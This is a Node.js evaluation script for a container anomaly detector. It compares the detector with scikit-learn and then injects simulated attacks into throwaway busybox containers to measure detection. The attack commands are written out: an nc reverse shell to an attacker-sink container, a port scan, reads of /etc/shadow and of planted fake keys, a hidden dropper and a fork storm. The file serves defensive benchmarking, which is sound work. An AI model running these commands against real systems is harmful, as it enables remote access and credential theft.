#!/usr/bin/env node
// SPDX-License-Identifier: Apache-2.0
/**
 * Anomaly detection evaluation (`npm run eval:anomaly`): a benchmark, not a timed test.
 *
 * 1. Reference: the vanilla forest (src/anomaly/forest.ts, every option off) and scikit-learn's
 *    IsolationForest (/usr/bin/python3; 100 trees, max_samples 256) on the same public tabular
 *    data: scikit-learn's bundled Wisconsin breast cancer set (load_breast_cancer, no network),
 *    all 357 benign rows plus 36 malignant rows drawn with seed 0 as the anomalies (8.4 %), both
 *    fitted on all 393 rows and scored on them; ROC AUC averaged over seeds 0-4 for each.
 * 2. Real containers (contguard-test/busybox re-tagged as one image per workload, so each
 *    workload has its own model; a user-defined network of their own): web1, web2 (busybox httpd
 *    serving 20 files; web1 has a host directory bind-mounted read-only at /hostshare), client1,
 *    client2 (HTTP GET loops with nc against web1/web2, whose rate changes every 20 s: 1, 3 or 6
 *    requests a second; the static busybox's wget crashes in these containers), batch1 (every 8 s: tar+gzip of /bin and /etc, md5sum, sort), idle1 (sleep), and
 *    sink1 (the reverse shell's listener: attack infrastructure, not evaluated). A fresh
 *    `contguard run` with anomaly.enabled records 1 s windows (JSON lines; anomaly.window_seconds
 *    1, adaptive period off; syscall snapshots and resource reads every 500 ms; file-open folding
 *    every 1 s). After the learning phase (--learn, default 210 s) and --pre seconds of normal
 *    work, each round injects, one after another with --gap seconds between them, with
 *    `docker exec` (each bounded by `timeout`, about --attack seconds):
 *      reverse_shell  client1: nc to sink1:4444 -e /bin/sh; the sink sends a command every 0.7 s
 *                     (id, ls, cat, uname, ps, hostname...)
 *      port_scan      client2: nc -w 1 to ports 1-3000 of web2 (until the timeout)
 *      cpu_burn       batch1: a busy shell loop
 *      host_secrets   web1: cat of the secrets in /hostshare and of /etc/shadow, every 0.4 s
 *      dropper        web2: copies busybox to /tmp/.x, runs it 10 times (busybox exits at once:
 *                     no applet is named .x), removes it
 *      syscall_burst  batch1: unshare -u, sync, ionice, chroot, setpriv 30 times
 *      fork_storm     idle1: 300 background sleeps of 3 s (any left at the timeout are killed; the
 *                     container's own sleep is PID 1, which ignores the signal)
 * 3. Offline, on the recording: the same records replayed (src/anomaly/offline.ts replay) through
 *    each variant: vanilla (every optimisation off), each optimisation alone, and all together.
 *    Every variant uses 2 s base windows (recorded 1 s windows merged; the adaptive period goes
 *    down to 1 s), learns every window that ends before the learning phase ends, then scores.
 *    Each 1 s recorded window of the scoring phase takes the score of the variant's window that
 *    holds it, so every variant is judged on the same windows: a window is an attack window when
 *    it overlaps [start, end + 1 s] of an attack on its container, is left out for --recovery
 *    seconds after that (the attack's own after-effects: folded records, the median smoothing), and is
 *    normal otherwise; windows after the last gap (the teardown) are not evaluated. Precision, recall and F1 at anomaly.threshold, ROC AUC over the scores;
 *    false alarms per container-hour: the variant's windows at or above the threshold that hold
 *    only normal 1 s windows, per hour of normal scoring time summed over containers.
 *
 * Usage (root, repo root, after `npm run build`): node bench/eval-anomaly.mjs [--quick]
 *   [--learn S] [--pre S] [--attack S] [--gap S] [--rounds N] [--recovery S] [--threshold X]
 *   [--keep DIR] (keep the recording) [--replay DIR] (evaluate an earlier recording only)
 * Results: printed table, and bench/results/anomaly-<date>.json.
 */
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync, chmodSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { randomBytes } from 'node:crypto';

const ROOT = fileURLToPath(new URL('..', import.meta.url));
const dist = (p) => pathToFileURL(join(ROOT, 'dist', p)).href;
const { IsolationForest } = await import(dist('src/anomaly/forest.js'));
const { AnomalyDetector } = await import(dist('src/anomaly/detector.js'));
const { replay, readRecords, withWindows } = await import(dist('src/anomaly/offline.js'));
const { DEFAULT_MODEL_OPTIONS } = await import(dist('src/anomaly/model.js'));
const { DEFAULT_CONFIG } = await import(dist('src/config.js'));

// ---------- options ----------
const argv = process.argv.slice(2);
const opt = (name, def) => {
  const i = argv.indexOf(`--${name}`);
  return i >= 0 ? argv[i + 1] : def;
};
const quick = argv.includes('--quick');
const P = {
  learn: Number(opt('learn', quick ? 90 : 210)),
  pre: Number(opt('pre', quick ? 20 : 40)),
  attack: Number(opt('attack', 8)),
  gap: Number(opt('gap', quick ? 14 : 20)),
  rounds: Number(opt('rounds', quick ? 1 : 2)),
  recovery: Number(opt('recovery', 4)),
  threshold: Number(opt('threshold', DEFAULT_CONFIG.anomaly.threshold)),
  baseWindow: 2,
  fineWindow: 1,
};
const keepDir = opt('keep', null);
/** --model JSON: model options applied to every variant (experiments), e.g. '{"rangeMargin": 3}'. */
const EXTRA_MODEL = JSON.parse(opt('model', '{}'));
const replayDir = opt('replay', null);
const started = Date.now();
const log = (m) => process.stdout.write(`[${((Date.now() - started) / 1000).toFixed(0).padStart(4)} s] ${m}\n`);

// ---------- metrics ----------
/** ROC AUC (Mann-Whitney, ties as half): P(score of an anomaly > score of a normal row). */
function rocAuc(scores, labels) {
  const idx = scores.map((s, i) => [s, labels[i]]).sort((a, b) => a[0] - b[0]);
  let rankSumPos = 0;
  let pos = 0;
  for (let i = 0; i < idx.length; ) {
    let j = i;
    while (j < idx.length && idx[j][0] === idx[i][0]) j++;
    const avgRank = (i + j + 1) / 2; // ranks i+1..j
    for (let k = i; k < j; k++) if (idx[k][1]) {
      rankSumPos += avgRank;
      pos++;
    }
    i = j;
  }
  const neg = idx.length - pos;
  if (pos === 0 || neg === 0) return NaN;
  return (rankSumPos - (pos * (pos + 1)) / 2) / (pos * neg);
}

// ---------- 1. reference benchmark ----------
const PY = `
import json, numpy as np
from sklearn.datasets import load_breast_cancer
from sklearn.ensemble import IsolationForest
from sklearn.metrics import roc_auc_score
d = load_breast_cancer()
X, y = d.data, d.target  # target 0 = malignant
rng = np.random.RandomState(0)
benign = np.where(y == 1)[0]
malignant = rng.choice(np.where(y == 0)[0], 36, replace=False)
idx = np.concatenate([benign, malignant])
Xs, ys = X[idx], (y[idx] == 0).astype(int)
aucs = []
for seed in range(5):
    f = IsolationForest(n_estimators=100, max_samples=256, random_state=seed).fit(Xs)
    aucs.append(roc_auc_score(ys, -f.score_samples(Xs)))
print(json.dumps({"X": Xs.tolist(), "y": ys.tolist(), "sklearn": aucs}))
`;

function reference() {
  const r = spawnSync('/usr/bin/python3', ['-c', PY], { encoding: 'utf8', maxBuffer: 64 << 20 });
  if (r.status !== 0) return { error: `scikit-learn reference failed: ${(r.stderr || r.error?.message || '').trim().split('\n').pop()}` };
  const { X, y, sklearn } = JSON.parse(r.stdout);
  const ours = [];
  let micros = 0;
  for (let seed = 0; seed < 5; seed++) {
    const f = IsolationForest.fit(X, { trees: 100, sampleSize: 256, seed: seed + 1 });
    const t0 = process.hrtime.bigint();
    const s = Array.from(f.scoreAll(X));
    micros += Number(process.hrtime.bigint() - t0) / 1000 / X.length;
    ours.push(rocAuc(s, y.map(Boolean)));
  }
  const mean = (a) => a.reduce((x, v) => x + v, 0) / a.length;
  return { dataset: 'sklearn load_breast_cancer: 357 benign + 36 malignant (seed 0) as anomalies, 30 features', rows: X.length, ours, sklearn, oursMean: mean(ours), sklearnMean: mean(sklearn), scoreMicrosPerRow: micros / 5 };
}

// ---------- 2. real containers ----------
const sh = (cmd, args, opts = {}) => {
  const r = spawnSync(cmd, args, { encoding: 'utf8', timeout: opts.timeout ?? 60_000, maxBuffer: 16 << 20 });
  if (r.status !== 0 && !opts.allowFail) throw new Error(`${cmd} ${args.slice(0, 4).join(' ')}: ${(r.stderr || r.error?.message || '').trim().split('\n').pop()}`);
  return (r.stdout ?? '').trim();
};
const docker = (...args) => sh('docker', args);
const sleep = (s) => new Promise((r) => setTimeout(r, s * 1000));

async function record(work) {
  if (process.getuid?.() !== 0) throw new Error('run as root (eBPF, dockerd)');
  if (!existsSync(join(ROOT, 'dist/src/main.js'))) throw new Error('dist/ missing: run npm run build first');
  docker('image', 'inspect', 'contguard-test/busybox:latest');
  const sfx = randomBytes(4).toString('hex');
  const names = { web1: `cgev-${sfx}-web1`, web2: `cgev-${sfx}-web2`, client1: `cgev-${sfx}-client1`, client2: `cgev-${sfx}-client2`, batch1: `cgev-${sfx}-batch1`, idle1: `cgev-${sfx}-idle1`, sink1: `cgev-${sfx}-sink1` };
  const images = {};
  for (const w of ['web', 'client', 'batch', 'idle', 'sink']) images[w] = `cg-eval-${sfx}-${w}`;
  const net = `cgev-${sfx}`;
  const share = join(work, 'hostshare');
  mkdirSync(share, { recursive: true });
  writeFileSync(join(share, 'secret.txt'), 'db_password=hunter2\n');
  writeFileSync(join(share, 'id_rsa'), '-----BEGIN OPENSSH PRIVATE KEY-----\nnot a real key\n');
  chmodSync(share, 0o755);
  const logs = join(work, 'logs');
  const cfgFile = join(work, 'contguard.yaml');
  writeFileSync(
    cfgFile,
    `outputs:
  console: { enabled: false }
  prometheus: { enabled: false }
  jsonl: { max_file_bytes: 1073741824, max_files: 2 }
sensors:
  syscalls: { snapshot_interval_ms: 500 }
  file_open: { fold_interval_ms: 1000 }
  process: { enabled: false }
resources: { interval_ms: 500 }
anomaly:
  enabled: true
  window_seconds: ${P.fineWindow}
  learning_windows: 100000
  state_dir: ${join(work, 'state')}
  adaptive_period: { enabled: false }
`,
  );
  const cleanup = () => {
    for (const n of Object.values(names)) sh('docker', ['rm', '-f', n], { allowFail: true });
    sh('docker', ['network', 'rm', net], { allowFail: true });
    for (const i of Object.values(images)) sh('docker', ['rmi', `${i}:latest`], { allowFail: true });
  };
  let agent = null;
  const attacks = [];
  let learnEndMs = 0;
  let scenarioEndMs = 0;
  try {
    for (const i of Object.values(images)) docker('tag', 'contguard-test/busybox:latest', `${i}:latest`);
    docker('network', 'create', net);
    agent = spawn(process.execPath, [join(ROOT, 'bin/contguard'), 'run', '--config', cfgFile, '--log-dir', logs, '--ready-file', join(work, 'ready')], { stdio: ['ignore', 'ignore', 'pipe'] });
    let agentErr = '';
    agent.stderr.on('data', (d) => (agentErr = (agentErr + d).slice(-4000)));
    for (let i = 0; i < 300 && !existsSync(join(work, 'ready')); i++) {
      if (agent.exitCode !== null) throw new Error(`agent exited: ${agentErr.trim().split('\n').pop()}`);
      await sleep(0.1);
    }
    if (!existsSync(join(work, 'ready'))) throw new Error('agent not ready after 30 s');
    log('agent ready');
    const total = P.learn + P.pre + P.rounds * 7 * (P.attack + P.gap) + 60;
    const run = (name, image, cmd, extra = []) =>
      docker('run', '-d', '--name', name, '--network', net, '--pids-limit', '1024', ...extra, `${image}:latest`, 'sh', '-c', cmd);
    const web = `mkdir -p /www; i=1; while [ $i -le 20 ]; do head -c $((i*700)) /dev/urandom > /www/f$i; i=$((i+1)); done; exec timeout ${total} httpd -f -p 8080 -h /www`;
    run(names.web1, images.web, web, ['-v', `${share}:/hostshare:ro`]);
    run(names.web2, images.web, web);
    const ip = (n) => docker('inspect', '-f', `{{(index .NetworkSettings.Networks "${net}").IPAddress}}`, n);
    const web1 = ip(names.web1);
    const web2 = ip(names.web2);
    const client = (target) =>
      `end=$(( $(date +%s) + ${total} )); while [ $(date +%s) -lt $end ]; do ph=$(( ($(date +%s) / 20) % 3 )); n=1; [ $ph -eq 1 ] && n=3; [ $ph -eq 2 ] && n=6; j=0; while [ $j -lt $n ]; do printf 'GET /f%d HTTP/1.0\\r\\n\\r\\n' $(( RANDOM % 20 + 1 )) | nc -w 2 ${target} 8080 > /dev/null; j=$((j+1)); done; sleep 1; done`;
    run(names.client1, images.client, client(web1));
    run(names.client2, images.client, client(web2));
    run(names.batch1, images.batch, `end=$(( $(date +%s) + ${total} )); while [ $(date +%s) -lt $end ]; do tar czf /tmp/a.tgz /bin /etc 2>/dev/null; md5sum /tmp/a.tgz > /dev/null; sort /etc/passwd > /dev/null; rm -f /tmp/a.tgz; sleep 8; done`);
    run(names.idle1, images.idle, `exec sleep ${total}`);
    // The attacker's side: a command every 0.7 s, as someone typing into the shell.
    run(names.sink1, images.sink, `printf '#!/bin/sh\\nfor c in id "ls /" "cat /etc/passwd" "uname -a" ps "ls /etc" "cat /etc/group" hostname "ls /tmp" id; do echo "$c"; sleep 0.7; done\\n' > /cmds.sh; chmod +x /cmds.sh; exec timeout ${total} nc -ll -p 4444 -e /cmds.sh`);
    const sink = ip(names.sink1);
    log(`containers up (suffix ${sfx}); learning ${P.learn} s`);
    await sleep(P.learn);
    learnEndMs = Date.now();
    log(`learning over; ${P.pre} s of normal work before the attacks`);
    await sleep(P.pre);
    const A = P.attack;
    const ATTACKS = [
      ['reverse_shell', 'client1', `timeout ${A} nc ${sink} 4444 -e /bin/sh`],
      ['port_scan', 'client2', `timeout ${A} sh -c 'p=1; while [ $p -le 3000 ]; do nc -w 1 ${web2} $p </dev/null >/dev/null 2>&1; p=$((p+1)); done'`],
      ['cpu_burn', 'batch1', `timeout ${A} sh -c 'while :; do :; done'`],
      ['host_secrets', 'web1', `timeout ${A} sh -c 'while :; do cat /hostshare/secret.txt /hostshare/id_rsa >/dev/null; cat /etc/shadow >/dev/null 2>&1; sleep 0.4; done'`],
      ['dropper', 'web2', `timeout ${A} sh -c 'cp /bin/busybox /tmp/.x; i=0; while [ $i -lt 10 ]; do /tmp/.x uname -a >/dev/null; sleep 0.7; i=$((i+1)); done; rm -f /tmp/.x'`],
      ['syscall_burst', 'batch1', `timeout ${A} sh -c 'i=0; while [ $i -lt 30 ]; do unshare -u true 2>/dev/null; sync; ionice -c 3 true 2>/dev/null; chroot / true 2>/dev/null; setpriv --dump >/dev/null 2>&1; sleep 0.2; i=$((i+1)); done'`],
      ['fork_storm', 'idle1', `timeout ${A} sh -c 'i=0; while [ $i -lt 300 ]; do sleep 3 & i=$((i+1)); done; wait'; kill $(pidof sleep) 2>/dev/null; true`],
    ];
    for (let round = 1; round <= P.rounds; round++) {
      for (const [kind, target, cmd] of ATTACKS) {
        const start = Date.now();
        sh('docker', ['exec', names[target], 'sh', '-c', cmd], { allowFail: true, timeout: (A + 10) * 1000 });
        const end = Date.now();
        attacks.push({ kind, container: names[target], round, startMs: start, endMs: end });
        log(`round ${round}: ${kind} in ${target} (${((end - start) / 1000).toFixed(1)} s)`);
        await sleep(P.gap);
      }
    }
    scenarioEndMs = Date.now();
  } finally {
    cleanup();
    if (agent && agent.exitCode === null) {
      agent.kill('SIGTERM');
      for (let i = 0; i < 200 && agent.exitCode === null; i++) await sleep(0.1);
      if (agent.exitCode === null) agent.kill('SIGKILL');
    }
  }
  const evaluated = ['web1', 'web2', 'client1', 'client2', 'batch1', 'idle1'].map((k) => names[k]);
  const meta = { learnEndMs, scenarioEndMs, attacks, evaluated, params: P };
  writeFileSync(join(work, 'meta.json'), JSON.stringify(meta));
  return meta;
}

// ---------- 3. offline evaluation ----------
const VARIANTS = [
  ['vanilla', {}],
  ['damping alone', { damping: true }],
  ['weighted features alone', { weighted: true }],
  ['modified path length alone', { modifiedPath: true }],
  ['adaptive period alone', { adaptive: true }],
  ['all together', { damping: true, weighted: true, modifiedPath: true, adaptive: true }],
];

function detectorFor(v, learnEndMs) {
  const a = DEFAULT_CONFIG.anomaly;
  return new AnomalyDetector({
    windowSeconds: P.baseWindow,
    learningWindows: 2,
    learnUntilMs: learnEndMs,
    threshold: P.threshold,
    retrainWindows: 0,
    adaptive: { enabled: !!v.adaptive, minWindowSeconds: P.fineWindow, band: a.adaptive_period.band, relaxWindows: a.adaptive_period.relax_windows },
    model: { ...DEFAULT_MODEL_OPTIONS, ...EXTRA_MODEL, damping: !!v.damping, weighted: !!v.weighted, modifiedPath: !!v.modifiedPath },
  });
}

function evaluate(records, meta) {
  const ours = new Set();
  // Our containers by name -> id (from the records).
  const idOf = new Map();
  for (const r of records) {
    const n = r.attributes['container.name'];
    if (typeof n === 'string' && meta.evaluated.includes(n)) idOf.set(n, r.attributes['container.id']);
  }
  for (const id of idOf.values()) ours.add(id);
  const mine = records.filter((r) => ours.has(r.attributes['container.id']));
  const attacksOf = new Map();
  for (const a of meta.attacks) {
    const id = idOf.get(a.container);
    if (!attacksOf.has(id)) attacksOf.set(id, []);
    attacksOf.get(id).push(a);
  }
  // Older recordings lack scenarioEndMs: the last attack's end plus the gap after it.
  const scenarioEnd = meta.scenarioEndMs || Math.max(...meta.attacks.map((a) => a.endMs)) + P.gap * 1000;
  // The fine (recorded) windows of the scoring phase, with their labels.
  const fine = [];
  for (const r of mine) {
    if (r.eventName !== 'contguard.anomaly.window') continue;
    const endMs = Number(r.timeUnixNano / 1_000_000n);
    const startMs = endMs - 1000 * Number(r.attributes['contguard.anomaly.window_seconds'] ?? 0);
    if (startMs < meta.learnEndMs + 4000) continue; // the first scored windows start after learning
    if (endMs > scenarioEnd) continue; // the teardown (servers removed before their clients) is no normal work
    let label = 'normal';
    for (const a of attacksOf.get(r.attributes['container.id']) ?? []) {
      if (startMs < a.endMs + 1000 && endMs > a.startMs) {
        label = 'attack';
        break;
      }
      if (startMs < a.endMs + 1000 + P.recovery * 1000 && endMs > a.endMs + 1000) label = 'excluded';
    }
    fine.push({ id: r.attributes['container.id'], startMs, endMs, label });
  }
  const rows = [];
  for (const [name, v] of VARIANTS) {
    const det = detectorFor(v, meta.learnEndMs);
    const results = [...replay(withWindows(mine, P.baseWindow), det)].filter((r) => r.phase === 'scoring');
    const byId = new Map();
    for (const r of results) {
      if (!byId.has(r.summary.containerId)) byId.set(r.summary.containerId, []);
      byId.get(r.summary.containerId).push(r);
    }
    const scores = [];
    const labels = [];
    let tp = 0, fp = 0, fn = 0, tn = 0;
    const kindOf = (w) => (attacksOf.get(w.id) ?? []).find((a) => w.startMs < a.endMs + 1000 && w.endMs > a.startMs)?.kind;
    const perKind = {}; // attack kind -> [alarmed windows, windows]
    const heldBy = new Map(); // variant window -> labels of its fine windows
    for (const w of fine) {
      const list = byId.get(w.id) ?? [];
      const r = list.find((x) => x.summary.endMs >= w.endMs - 1);
      if (!r) continue;
      if (!heldBy.has(r)) heldBy.set(r, []);
      heldBy.get(r).push(w.label);
      if (w.label === 'excluded') continue;
      const alarm = r.score >= P.threshold;
      scores.push(r.score);
      labels.push(w.label === 'attack');
      if (w.label === 'attack') {
        alarm ? tp++ : fn++;
        const k = kindOf(w);
        perKind[k] ??= [0, 0];
        perKind[k][0] += alarm ? 1 : 0;
        perKind[k][1]++;
      }
      else alarm ? fp++ : tn++;
    }
    let falseAlarms = 0;
    const falseAlarmDetail = [];
    for (const [r, ls] of heldBy) {
      if (r.score >= P.threshold && ls.every((l) => l === 'normal')) {
        falseAlarms++;
        falseAlarmDetail.push({ container: r.summary.containerName, endMs: r.summary.endMs, score: r.score, features: (r.explanation ?? []).map((f) => f.text) });
      }
    }
    const normalHours = fine.filter((w) => w.label === 'normal').reduce((s, w) => s + (w.endMs - w.startMs), 0) / 3_600_000;
    const precision = tp + fp ? tp / (tp + fp) : 0;
    const recall = tp + fn ? tp / (tp + fn) : 0;
    const f1 = precision + recall ? (2 * precision * recall) / (precision + recall) : 0;
    const micros = results.reduce((s, r) => s + r.scoreMicros, 0) / Math.max(1, results.length);
    // Detection per attack: did any attack window of it alarm?
    const detected = {};
    for (const a of meta.attacks) {
      const id = idOf.get(a.container);
      const hit = fine.some((w) => w.id === id && w.label === 'attack' && w.startMs < a.endMs + 1000 && w.endMs > a.startMs && (byId.get(id) ?? []).find((x) => x.summary.endMs >= w.endMs - 1)?.score >= P.threshold);
      detected[a.kind] = (detected[a.kind] ?? 0) + (hit ? 1 : 0);
    }
    rows.push({ name, precision, recall, f1, auc: rocAuc(scores, labels), falseAlarms, falseAlarmsPerContainerHour: normalHours ? falseAlarms / normalHours : NaN, normalContainerHours: normalHours, attackWindows: tp + fn, normalWindows: fp + tn, scoreMicros: micros, detected, perKind, falseAlarmDetail: falseAlarmDetail.slice(0, 10) });
  }
  return rows;
}

// ---------- main ----------
function table(rows, ref, meta) {
  const f = (x, d = 3) => (Number.isFinite(x) ? x.toFixed(d) : 'n/a');
  const lines = [];
  lines.push(`| variant | precision | recall | F1 | ROC AUC | false alarms / container-hour | scoring µs / window |`);
  lines.push(`|---|---|---|---|---|---|---|`);
  for (const r of rows) lines.push(`| ${r.name} | ${f(r.precision)} | ${f(r.recall)} | ${f(r.f1)} | ${f(r.auc)} | ${f(r.falseAlarmsPerContainerHour, 2)} (${r.falseAlarms}) | ${f(r.scoreMicros, 1)} |`);
  if (ref.error) lines.push(`| reference | ${ref.error} | | | | | |`);
  else lines.push(`| reference: vanilla forest vs scikit-learn IsolationForest, ${ref.rows} rows of breast cancer | | | | ours ${f(ref.oursMean)} vs sklearn ${f(ref.sklearnMean)} (diff ${f(ref.oursMean - ref.sklearnMean)}) | | ${f(ref.scoreMicrosPerRow, 1)} |`);
  const all = rows.find((r) => r.name === 'all together');
  const van = rows.find((r) => r.name === 'vanilla');
  const checks = [
    [`all together F1 >= 0.9`, all.f1 >= 0.9],
    [`all together <= 1 false alarm per container-hour`, all.falseAlarmsPerContainerHour <= 1],
    [`all together better than vanilla on F1 and AUC`, all.f1 > van.f1 && all.auc > van.auc],
    [`vanilla within 0.02 AUC of scikit-learn`, !ref.error && Math.abs(ref.oursMean - ref.sklearnMean) <= 0.02],
  ];
  lines.push('');
  lines.push(`attack windows ${all.attackWindows}, normal windows ${all.normalWindows} (1 s windows, ${f(all.normalContainerHours, 2)} normal container-hours); threshold ${P.threshold}; attacks: ${meta.attacks.length}`);
  lines.push(`attacks detected (all together): ${Object.entries(all.detected).map(([k, v]) => `${k} ${v}/${meta.attacks.filter((a) => a.kind === k).length}`).join(', ')}`);
  lines.push(`attacks detected (vanilla): ${Object.entries(van.detected).map(([k, v]) => `${k} ${v}/${meta.attacks.filter((a) => a.kind === k).length}`).join(', ')}`);
  lines.push(`attack windows alarmed (all together): ${Object.entries(all.perKind).map(([k, [a, n]]) => `${k} ${a}/${n}`).join(', ')}`);
  lines.push(`attack windows alarmed (vanilla): ${Object.entries(van.perKind).map(([k, [a, n]]) => `${k} ${a}/${n}`).join(', ')}`);
  for (const [text, ok] of checks) lines.push(`${ok ? 'PASS' : 'FAIL'}  ${text}`);
  return { text: lines.join('\n'), pass: checks.every((c) => c[1]) };
}

const ref = reference();
log(ref.error ?? `reference: ours ${ref.oursMean.toFixed(3)} vs scikit-learn ${ref.sklearnMean.toFixed(3)} ROC AUC`);
let work;
let meta;
if (replayDir) {
  work = replayDir;
  meta = JSON.parse(readFileSync(join(work, 'meta.json'), 'utf8'));
  Object.assign(P, { ...meta.params, threshold: Number(opt('threshold', meta.params.threshold)), recovery: Number(opt('recovery', meta.params.recovery)) });
} else {
  work = keepDir ?? mkdtempSync(join(tmpdir(), 'cg-eval-anomaly-'));
  mkdirSync(work, { recursive: true });
  meta = await record(work);
}
log('replaying the recording through every variant');
const { records } = readRecords(join(work, 'logs'));
const rows = evaluate(records, meta);
const { text, pass } = table(rows, ref, meta);
process.stdout.write(`\n${text}\n`);
mkdirSync(join(ROOT, 'bench/results'), { recursive: true });
const out = join(ROOT, `bench/results/anomaly-${new Date().toISOString().slice(0, 10)}${quick ? '-quick' : ''}.json`);
writeFileSync(out, JSON.stringify({ params: P, reference: ref.error ? ref : { ...ref, X: undefined }, rows, attacks: meta.attacks, elapsedSeconds: (Date.now() - started) / 1000 }, null, 1));
log(`results in ${out}`);
if (!keepDir && !replayDir) rmSync(work, { recursive: true, force: true });
process.exitCode = pass ? 0 : 1;
